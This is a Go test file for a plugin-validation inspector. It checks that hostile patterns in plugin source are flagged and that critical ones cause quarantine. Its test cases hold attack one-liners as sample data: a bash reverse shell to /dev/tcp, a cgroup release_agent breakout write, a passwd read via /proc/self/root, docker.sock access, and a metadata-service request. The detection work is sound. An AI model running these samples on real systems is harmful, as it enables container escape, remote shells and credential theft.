package validator

import (
	"testing"
)

func TestInspect(t *testing.T) {
	ins := NewInspector()

	tests := []struct {
		name        string
		source      string
		wantPattern string
		wantNone    bool
	}{
		{"proc self root", `f = open("/proc/self/root/etc/passwd")`, "proc_self_access", false},
		{"cgroup breakout", `open("/sys/fs/cgroup/release_agent", "w")`, "cgroup_breakout", false},
		{"runtime socket", `sock.connect("/var/run/docker.sock")`, "runtime_socket", false},
		{"reverse shell", `os.popen("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")`, "reverse_shell", false},
		{"metadata service", `requests.get("http://169.254.169.254/latest/meta-data/")`, "metadata_service", false},
		{"ptrace", `libc.ptrace(PTRACE_ATTACH, pid, 0, 0)`, "ptrace_attempt", false},
		{"native injection", `ctypes.CDLL("libc.so.6")`, "native_injection", false},
		{"obfuscated payload", `payload = base64.b64decode(blob)`, "obfuscated_payload", false},
		{"crypto miner", `pool = "stratum+tcp://pool.example.com:3333"`, "crypto_miner", false},
		{"clean source", "import json\nprint('hello')\n", "", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			findings := ins.Inspect(tt.source)
			if tt.wantNone {
				if len(findings) != 0 {
					t.Errorf("clean source produced findings: %v", findings)
				}
				return
			}
			found := false
			for _, f := range findings {
				if f.Pattern == tt.wantPattern {
					found = true
					if f.Line < 1 {
						t.Errorf("finding %s has no line number", f.Pattern)
					}
				}
			}
			if !found {
				t.Errorf("pattern %q not found in %v", tt.wantPattern, findings)
			}
		})
	}
}

func TestInspectLineNumbers(t *testing.T) {
	ins := NewInspector()
	source := "import json\nvalue = 1\nlibc.ptrace(0, 0, 0, 0)\n"

	findings := ins.Inspect(source)
	if len(findings) != 1 {
		t.Fatalf("got %d findings, want 1", len(findings))
	}
	if findings[0].Line != 3 {
		t.Errorf("Line = %d, want 3", findings[0].Line)
	}
	if findings[0].Severity != FindingCritical {
		t.Errorf("Severity = %s, want critical", findings[0].Severity)
	}
}

func TestValidateQuarantinesOnCriticalFinding(t *testing.T) {
	v, _ := newTestValidator(t)
	// Low aggregate risk score, but the breakout indicator alone forces
	// quarantine.
	content := "import json\nwith open('/sys/fs/cgroup/release_agent', 'w') as f:\n    f.write(cmd)\n"
	path := writePlugin(t, t.TempDir(), "breakout.py", content)

	digest, err := ComputeFileHash(path)
	if err != nil {
		t.Fatal(err)
	}

	result, err := v.Validate(identityWithDigest("breakout", path, digest))
	if err != nil {
		t.Fatalf("Validate: %v", err)
	}
	if result.Status != StatusQuarantined {
		t.Errorf("Status = %s (score %d), want quarantined on critical finding", result.Status, result.RiskScore)
	}
	if len(result.Findings) == 0 {
		t.Fatal("no findings recorded")
	}
	if result.Findings[0].Pattern != "cgroup_breakout" {
		t.Errorf("Pattern = %s, want cgroup_breakout", result.Findings[0].Pattern)
	}
}

func TestValidateMediumFindingDoesNotQuarantine(t *testing.T) {
	v, _ := newTestValidator(t)
	content := "import json\npayload = base64.b64decode(blob)\n"
	path := writePlugin(t, t.TempDir(), "decoder.py", content)

	digest, err := ComputeFileHash(path)
	if err != nil {
		t.Fatal(err)
	}

	result, err := v.Validate(identityWithDigest("decoder", path, digest))
	if err != nil {
		t.Fatalf("Validate: %v", err)
	}
	if result.Status != StatusPassed {
		t.Errorf("Status = %s, want passed for a medium finding", result.Status)
	}
	if len(result.Findings) != 1 {
		t.Errorf("Findings = %v, want the payload indicator recorded", result.Findings)
	}
}
